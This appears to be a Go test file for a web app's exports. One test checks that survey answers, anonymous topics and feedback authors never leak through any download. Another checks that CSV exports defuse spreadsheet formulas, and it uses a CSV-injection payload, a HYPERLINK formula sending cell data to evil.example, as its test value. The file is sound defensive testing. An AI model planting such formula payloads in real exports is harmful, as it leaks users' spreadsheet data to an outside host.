package web

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/goeswell/goeswell/internal/collab"
	"github.com/goeswell/goeswell/internal/learning"
	"github.com/goeswell/goeswell/internal/sqlstore"
	"github.com/goeswell/goeswell/internal/sqlstore/sqltest"
)

// download is one byte stream leaving the server.
type download struct {
	path, ctype string
	body        []byte
}

// everyDownload fetches, as actor, every export the route table has for
// the actor's own collaborative and team: GET routes ending in .csv,
// .xlsx, .zip or .json, every page offering ?format=csv and ?format=xlsx,
// every API read, and the collaborative's archive.
func everyDownload(t *testing.T, e *env, actor string) []download {
	t.Helper()
	var out []download
	fetch := func(method, path string) {
		w := e.do(actor, method, path, nil, "")
		if w.Code == http.StatusOK {
			out = append(out, download{path, w.Header().Get("Content-Type"), w.Body.Bytes()})
		}
	}
	for _, rt := range e.srv.Routes() {
		if rt.Method != "GET" || strings.HasPrefix(rt.Pattern, "/api/v1/openapi") {
			continue
		}
		path, err := fill(e, rt.Pattern, targets[0])
		if err != nil {
			t.Fatal(err)
		}
		switch {
		case rt.API:
			fetch("GET", path)
		case strings.HasSuffix(rt.Pattern, ".csv"), strings.HasSuffix(rt.Pattern, ".xlsx"), strings.HasSuffix(rt.Pattern, ".zip"), strings.HasSuffix(rt.Pattern, ".json"):
			fetch("GET", path)
		default:
			for _, f := range []string{"csv", "xlsx"} {
				w := e.do(actor, "GET", path+"?format="+f, nil, "")
				if w.Code == http.StatusOK && strings.HasPrefix(w.Header().Get("Content-Disposition"), "attachment") {
					out = append(out, download{path + "?format=" + f, w.Header().Get("Content-Type"), w.Body.Bytes()})
				}
			}
		}
	}
	w := e.form(actor, fmt.Sprintf("/c/%d/archive", e.ids["c1"]), nil)
	if w.Code == http.StatusOK {
		out = append(out, download{"archive", w.Header().Get("Content-Type"), w.Body.Bytes()})
	}
	return out
}

// texts opens a download: a zip's entries, an XLSX's cells, or the bytes.
func texts(t *testing.T, d download) map[string]string {
	t.Helper()
	out := map[string]string{}
	switch {
	case bytes.HasPrefix(d.body, []byte("PK")) && strings.HasSuffix(d.path, "xlsx"):
		out[d.path] = xlsxText(t, d.body)
	case bytes.HasPrefix(d.body, []byte("PK")):
		zr, err := zip.NewReader(bytes.NewReader(d.body), int64(len(d.body)))
		if err != nil {
			t.Fatalf("%s: %v", d.path, err)
		}
		for _, f := range zr.File {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(rc)
			rc.Close()
			out[d.path+"!"+f.Name] = string(b)
		}
	default:
		out[d.path] = string(d.body)
	}
	return out
}

// TestDisclosureCanary is issue 11 item 2's canary: markers planted in a
// small team's survey answers, in an anonymous agenda topic and in
// meeting feedback; then everything a convener and a site administrator
// can export — archive, CSV, XLSX, API — is read and grepped. No stream
// may carry an individual survey answer, the proposer of the anonymous
// topic, or the author of a feedback row beside it.
func TestDisclosureCanary(t *testing.T) {
	if testing.Short() {
		t.Skip("a walk over every page or export; it runs in full without -short (CI's race pass uses -short)")
	}
	e := newEnv(t, sqltest.SQLite(t))
	c1 := e.ids["c1"]
	who := collab.Who{}
	// A team of three answers a check-in: fewer than the threshold.
	sv := &collab.Survey{CollaborativeID: c1, Title: "Canary-free pulse", Kind: collab.SurveyCustom, Questions: []collab.Question{
		{Key: "q1", Kind: collab.QScale, Text: "How connected?"}, {Key: "q2", Kind: collab.QText, Text: "What helps?"}}}
	must(t, e.db.CreateSurvey(bg, who, sv))
	must(t, e.db.CreateSurveyLinks(bg, who, c1, sv.ID, e.ids["teamA"], false, []string{"disclosure-token"}))
	for range 3 {
		must(t, e.db.SubmitSurveyResponse(bg, "disclosure-token", map[string]string{"q1": "2", "q2": "MARKERSURVEYANSWER"}))
	}
	// An anonymous topic, proposed by the team's director.
	dir, _, err := e.db.FindUserByEmail(bg, "director.harbor@example.org")
	must(t, err)
	tp := &learning.Topic{CollaborativeID: c1, Title: "MARKERTOPIC anonymous", Anonymous: true}
	must(t, e.db.ProposeTopic(bg, collab.Who{UserID: dir.ID}, tp))
	// The demo's feedback, with its authors.
	fb, err := e.db.Feedback(bg, c1, 0)
	must(t, err)
	if len(fb) == 0 {
		t.Fatal("no feedback in the demo: the test would prove nothing")
	}

	for _, actor := range []string{"convener", "admin"} {
		downloads := everyDownload(t, e, actor)
		sawArchive, sawTopic := false, false
		for _, d := range downloads {
			for name, text := range texts(t, d) {
				if strings.Contains(text, "MARKERSURVEYANSWER") {
					t.Errorf("%s: %s carries an individual survey answer", actor, name)
				}
				if strings.HasSuffix(name, "!csv/survey_responses.csv") || strings.HasSuffix(name, "!csv/feedback.csv") {
					t.Errorf("%s: the archive carries %s", actor, name)
				}
				// Line by line (a CSV row, an XLSX row, a JSON document): the
				// topic never beside its proposer, feedback never beside its
				// author.
				for _, line := range strings.Split(text, "\n") {
					if strings.Contains(line, "MARKERTOPIC") {
						sawTopic = true
						if strings.Contains(line, dir.Name) || strings.Contains(line, dir.Email) {
							t.Errorf("%s: %s names the anonymous topic's proposer: %s", actor, name, line)
						}
					}
				}
				if strings.HasSuffix(name, "!data.json") {
					sawArchive = true
					var data map[string][][]any
					must(t, json.Unmarshal([]byte(text), &data))
					if len(data["survey_responses"]) > 0 || len(data["feedback"]) > 0 {
						t.Errorf("%s: the archive carries survey responses or feedback rows", actor)
					}
					for _, r := range data["agenda_topics"] {
						for _, v := range r {
							if v == "MARKERTOPIC anonymous" && strings.Contains(fmt.Sprint(r), fmt.Sprint(" ", dir.ID, " ")) {
								t.Errorf("%s: the archive's anonymous topic row holds its proposer's id: %v", actor, r)
							}
						}
					}
				}
			}
		}
		if !sawArchive || !sawTopic {
			t.Errorf("%s: archive read %v, topic found %v: the test would prove nothing", actor, sawArchive, sawTopic)
		}
		t.Logf("%s: %d downloads read", actor, len(downloads))
	}
}

// TestCSVExportsDefuseFormulas is issue 11 item 6: a team named as a
// spreadsheet formula, exported through every CSV route — the survey
// results, the archive's csv/*.csv, every page's ?format=csv — comes out
// with an apostrophe before it, never as a formula. Plain negative
// numbers stay numbers (internal/csvout).
func TestCSVExportsDefuseFormulas(t *testing.T) {
	if testing.Short() {
		t.Skip("a walk over every page or export; it runs in full without -short (CI's race pass uses -short)")
	}
	e := newEnv(t, sqltest.SQLite(t))
	c1 := e.ids["c1"]
	evil := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	_, err := e.db.UpdateTeam(bg, collab.Who{}, c1, e.ids["teamA"], sqlstore.TeamUpdate{Name: &evil})
	must(t, err)
	found := map[string]bool{}
	csvs := 0
	for _, d := range everyDownload(t, e, "convener") {
		for name, text := range texts(t, d) {
			if !strings.HasSuffix(name, ".csv") && !strings.HasPrefix(d.ctype, "text/csv") {
				continue
			}
			csvs++
			recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
			if err != nil {
				// Not every .csv route is a table with equal rows.
				r := csv.NewReader(strings.NewReader(text))
				r.FieldsPerRecord = -1
				if recs, err = r.ReadAll(); err != nil {
					t.Fatalf("%s: %v", name, err)
				}
			}
			for _, rec := range recs {
				for _, c := range rec {
					if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
						t.Errorf("%s: a cell a spreadsheet runs: %q", name, c)
					}
					if c == "'"+evil {
						found[name] = true
					}
				}
			}
		}
	}
	for _, want := range []string{fmt.Sprintf("/c/%d/surveys/%d/results.csv", c1, e.ids["survey1"]), "archive!csv/teams.csv"} {
		if !found[want] {
			t.Errorf("%s does not carry the defused team name: the test would prove nothing (found in %v)", want, found)
		}
	}
	t.Logf("%d CSV files read; the defused name in %d", csvs, len(found))
}
